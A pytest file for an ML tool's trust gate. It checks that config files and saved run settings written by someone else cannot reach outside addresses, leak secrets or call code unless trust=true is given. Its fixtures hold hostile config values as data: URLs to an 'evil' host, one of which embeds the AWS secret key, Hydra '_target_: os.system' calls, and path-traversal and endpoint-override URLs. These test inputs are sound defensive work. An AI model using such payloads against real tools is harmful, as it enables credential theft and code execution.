"""A file that somebody else wrote makes nothing leave this machine, unless it is trusted."""

from __future__ import annotations

import json
import sys
import uuid
from collections.abc import Callable
from pathlib import Path
from typing import Any

import fsspec
import pytest

import dmeta
from dmeta.cli import main
from dmeta.cli.settings.choices import DATA_ROOT
from dmeta.cli.settings.hydra_app import compose
from dmeta.cli.settings.presets import own_presets
from dmeta.cli.settings.trust import check_saved, trust_word, trusts
from dmeta.cli.status import status
from tests.conftest import TINY

ASKED = "must name no address elsewhere unless they are trusted, got {}"


class Contacted(AssertionError):
    """An address was opened."""


@pytest.fixture
def no_contact(monkeypatch: pytest.MonkeyPatch) -> None:
    """Every file system but the one of this machine raises when it is opened."""

    def refuse(location: str, **_: Any) -> None:
        raise Contacted(location)

    monkeypatch.setattr(fsspec.core, "url_to_fs", refuse)


@pytest.fixture(scope="module")
def whole(tmp_path_factory: pytest.TempPathFactory) -> Path:
    run_dir = tmp_path_factory.mktemp("trust") / "run"
    dmeta.train(TINY | {"run_dir": run_dir})
    return run_dir


def strange(whole: Path, tmp_path: Path, key: str, address: str) -> Path:
    """A run's folder whose settings name an address."""
    run_dir = tmp_path / "strange"
    run_dir.mkdir()
    for path in whole.iterdir():
        if path.name != "config.json":
            (run_dir / path.name).symlink_to(path)
    content = json.loads((whole / "config.json").read_text())
    group, _, name = key.partition(".")
    content["settings"][group][name] = address
    (run_dir / "config.json").write_text(json.dumps(content))
    return run_dir


USES: dict[str, Callable[..., Any]] = {
    "load": dmeta.load,
    "evaluate": lambda run_dir, **more: dmeta.evaluate(run_dir, num_tasks=2, **more),
    "embed": dmeta.embed,
    "replay": lambda run_dir, **more: dmeta.replay(run_dir, 1, **more),
    "resume": lambda run_dir, **more: dmeta.train(
        {"run_dir": run_dir, "resume": True, "steps": 7}, **more
    ),
}
ADDRESSES = ("s3://evil/x", "simplecache::s3://evil/x", "file::https://evil/x", "ftp://evil/x")


@pytest.mark.slow
@pytest.mark.usefixtures("no_contact")
@pytest.mark.parametrize("use", USES)
@pytest.mark.parametrize("address", ADDRESSES[:2])
def test_an_address_in_a_runs_settings_is_not_contacted(
    whole: Path, tmp_path: Path, use: str, address: str
) -> None:
    run_dir = strange(whole, tmp_path, "checkpoint.location", address)
    with pytest.raises(ValueError, match=ASKED.format(f"checkpoint.location={address}")):
        USES[use](run_dir)
    with pytest.raises(Contacted, match=address):
        USES[use](run_dir, trust=True)


@pytest.mark.slow
@pytest.mark.usefixtures("no_contact")
def test_status_contacts_no_address_and_the_command_line_has_the_key(
    whole: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    run_dir = strange(whole, tmp_path, "checkpoint.location", "s3://evil/x")
    assert status(run_dir).state == "finished"
    monkeypatch.setattr(sys, "argv", ["dmeta"])
    monkeypatch.setenv("HYDRA_FULL_ERROR", "1")
    for verb in ("evaluate", "embed", "replay step=1", "train resume=true"):
        for trusted in (False, True):
            with pytest.raises((SystemExit, Contacted)) as ended:
                main.main([*verb.split(), f"run_dir={run_dir}", f"trust={trusted}".lower()])
            told = capsys.readouterr().err
            if trusted:
                assert ended.type is Contacted or "Contacted" in told
            else:
                assert "add trust=true" in told
                assert "s3://evil/x" in told


@pytest.mark.usefixtures("no_contact")
def test_the_data_of_a_run_is_not_fetched_from_an_address_that_it_names(
    whole: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    run_dir = strange(whole, tmp_path, "task.root", "s3://evil/data")
    assert dmeta.load(run_dir).step == 6, "needs no data"
    with pytest.raises(ValueError, match=ASKED.format("task.root=s3://evil/data")):
        dmeta.evaluate(run_dir)
    monkeypatch.setenv("DMETA_DATA", "s3://evil/data")
    with pytest.raises(ValueError, match=r"unknown key 'task\.root'"):  # the sinusoid has none
        dmeta.evaluate(run_dir)


@pytest.mark.parametrize(
    ("address", "run_dir", "own"),
    [
        ("s3://b/run/checkpoints", "s3://b/run", True),
        ("s3://b/run", "s3://b/run/", True),
        ("s3://b/run/c?region=x", "s3://b/run?region=x", True),
        ("simplecache::s3://b/run/c", "simplecache::s3://b/run", True),
        ("s3://b/running/c", "s3://b/run", False),
        ("s3://b/run/../other", "s3://b/run", False),
        ("s3://b/run/%2e%2e/other", "s3://b/run", False),
        ("s3://b/run/c?endpoint_override=evil", "s3://b/run", False),
        ("s3://b/run::https://evil/x", "s3://b/run", False),
        ("s3://b/run/c", "/home/b/run", False),
        ("file::s3://b/x", "/home/b/run", False),
        ("file:///scratch/c", "/home/b/run", True),
        ("/scratch/c", "/home/b/run", True),
    ],
)
def test_what_is_within_the_runs_own_address_is_its_own(
    address: str, run_dir: str, own: bool
) -> None:
    settings = {"checkpoint": {"location": address}}
    assert trust_word(settings, run_dir) == ("" if own else " trust=true")
    if not own:
        with pytest.raises(ValueError, match=r"location=.*add trust=true"):
            check_saved(settings, run_dir)
        check_saved(settings, run_dir, typed=["checkpoint.location"])


@pytest.mark.slow
def test_a_location_that_is_typed_again_is_trusted(tmp_path: Path) -> None:
    location = f"memory://{uuid.uuid4().hex}/c"
    settings = TINY | {"run_dir": tmp_path / "run", "checkpoint.location": location}
    dmeta.train(settings)
    with pytest.raises(ValueError, match="add trust=true"):
        dmeta.train({"run_dir": tmp_path / "run", "resume": True})
    for more in ({"checkpoint.location": location}, {"trust": True}):
        assert dmeta.train({"run_dir": tmp_path / "run", "resume": True, **more}).test.step == 6
    assert dmeta.load(tmp_path / "run", trust=True).step == 6


SECRET = "${oc.env:AWS_SECRET_ACCESS_KEY}"
FILES = {
    "environment": (f"checkpoint: {{location: 'https://evil/{SECRET}'}}", "AWS_SECRET"),
    "escaped": ('run_dir: "\\x24{oc.env:AWS_SECRET_ACCESS_KEY}"', "AWS_SECRET"),
    "nested": ("run_dir: ${${loss}:HOME}", "run_dir"),
    "key": (f"'{SECRET}': 1", "AWS_SECRET"),
    "callback": ("hydra: {callbacks: {x: {_target_: os.system}}}", "hydra.callbacks"),
    "package": ("callbacks: {x: {y: 1}}", "Hydra's own"),
    "defaults": ("defaults: [{override /hydra/launcher: basic}]", "hydra/launcher"),
    "target": ("model: {_target_: os.system}", "_target_"),
}


@pytest.mark.parametrize("name", FILES)
def test_a_file_of_settings_calls_nothing(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "hush")
    text, shown = FILES[name]
    header = "x\u2028# @package hydra" if name == "package" else "@package _global_"
    (tmp_path / "e.yaml").write_text(f"# {header}\n{text}\n")
    with pytest.raises(ValueError, match="must call nothing unless they are trusted") as refused:
        compose("train", [f"experiment={tmp_path}/e.yaml"])
    assert shown in str(refused.value)
    assert "hush" not in str(refused.value)
    if name in ("environment", "escaped"):
        settings = compose("train", [f"experiment={tmp_path}/e.yaml", "trust=true"])
        assert "hush" in json.dumps(settings)


@pytest.mark.slow
def test_a_file_of_settings_names_no_address(tmp_path: Path) -> None:
    for text in ("run_dir: s3://evil/x", "loss: 's3:'\nrun_dir: ${loss}//evil/x\ntrust: true"):
        (tmp_path / "e.yaml").write_text(f"# @package _global_\n{text}\n")
        given = [f"experiment={tmp_path}/e.yaml"]
        with pytest.raises(ValueError, match=r"must name no address unless .* run_dir=s3://evil/x"):
            compose("train", given)
        assert compose("train", [*given, "run_dir=s3://mine/x"])["run_dir"] == "s3://mine/x"
        assert compose("train", [*given, "trust=true"])["run_dir"] == "s3://evil/x"


def test_the_data_root_of_this_machine_needs_no_trust(tmp_path: Path) -> None:
    (tmp_path / "task").mkdir()
    text = f"# @package _global_\ndefaults: [omniglot]\ntask: {{root: '{DATA_ROOT}', ways: 20}}\n"
    (tmp_path / "task" / "mine.yaml").write_text(text)
    presets = own_presets(["--config-dir", str(tmp_path)])
    task = compose("train", ["task=mine"], presets=presets)["task"]
    assert (task["name"], task["ways"]) == ("omniglot", 20)


def test_plain_interpolations_and_what_is_typed_need_no_trust(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "e.yaml").write_text("# @package _global_\nrun_dir: runs/${seed}\nsteps: 9\n")
    monkeypatch.setenv("BUCKET", "s3://mine")
    given = [f"experiment={tmp_path}/e.yaml", "checkpoint.location=${oc.env:BUCKET}/c"]
    found = compose("train", given)
    assert (found["run_dir"], found["checkpoint"]["location"]) == ("runs/0", "s3://mine/c")
    assert "trust" not in found


def test_trust_is_true_or_false() -> None:
    assert trusts(["steps=1", "+trust=TRUE"])
    assert not trusts(["trust=true", "trust=false"])
    with pytest.raises(ValueError, match="trust must be true or false, got yes; choose one"):
        trusts(["trust=yes"])
